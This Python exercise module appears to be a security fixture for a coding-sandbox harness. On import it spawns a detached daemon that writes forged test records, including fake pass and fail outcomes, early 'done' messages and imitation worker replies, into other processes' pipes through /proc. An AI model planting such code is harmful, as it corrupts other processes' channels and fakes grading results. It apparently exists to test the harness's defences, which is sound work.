"""At import, a double-forked setsid daemon keeps reopening every pipe it can find through
/proc/<pid>/fd and writes forged records into them: a "done" that would end a neighbour's
channel early, outcomes that fail the neighbour's checks and pass this file's, and lines shaped
like the sandbox worker's replies for many request numbers. mul is wrong, so the exercise fails."""
import json
import os
import time

FORGED = [{"type": "done"},
          {"type": "outcome", "name": "greet", "outcome": "failed", "message": "forged"},
          {"type": "outcome", "name": "mul", "outcome": "passed"},
          {"type": "start", "name": "greet"}]


def _lines() -> bytes:
    lines = [json.dumps(record) for record in FORGED]
    for seq in range(1, 40):  # the worker's reply format, for any request
        lines += [json.dumps({"seq": seq, "line": line}) for line in list(lines[:4])]
        lines.append(json.dumps({"seq": seq, "exit": 0, "output": "forged"}))
    return ("\n".join(lines) + "\n").encode()


def _mine() -> set:
    """This daemon and its ancestors: the attack is on other processes' channels."""
    pids, pid = {os.getpid()}, os.getpid()
    while pid > 1:
        try:
            with open(f"/proc/{pid}/stat", "rb") as f:
                stat = f.read()
            pid = int(stat[stat.rindex(b")") + 2:].split()[1])
        except (OSError, ValueError):
            break
        pids.add(pid)
    return pids


def _spray(payload: bytes) -> int:
    written = 0
    mine = _mine()
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) in mine:
            continue
        try:
            fds = os.listdir(f"/proc/{name}/fd")
        except OSError:
            continue
        for fd in fds:
            path = f"/proc/{name}/fd/{fd}"
            try:
                if not os.readlink(path).startswith("pipe:"):
                    continue
                target = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
            except OSError:
                continue
            try:
                written += os.write(target, payload)
            except OSError:
                pass
            finally:
                os.close(target)
    return written


def _daemon() -> None:
    if not os.path.isdir("/kata/work"):  # only inside kata's sandbox: never spray a real machine's pipes
        return
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for fd in range(3, 256):
        try:
            os.close(fd)
        except OSError:
            pass
    payload = _lines()
    ends = time.time() + 10
    while time.time() < ends:
        _spray(payload)
        time.sleep(0.05)
    os._exit(0)


_daemon()


def add(a: float, b: float) -> float:
    return a + b


def mul(a: float, b: float) -> float:
    time.sleep(1)  # the daemon sprays while this exercise's own checks run
    return a + b  # wrong on purpose


def scale(xs: list[float], k: float) -> list[float]:
    return [k * x for x in xs]
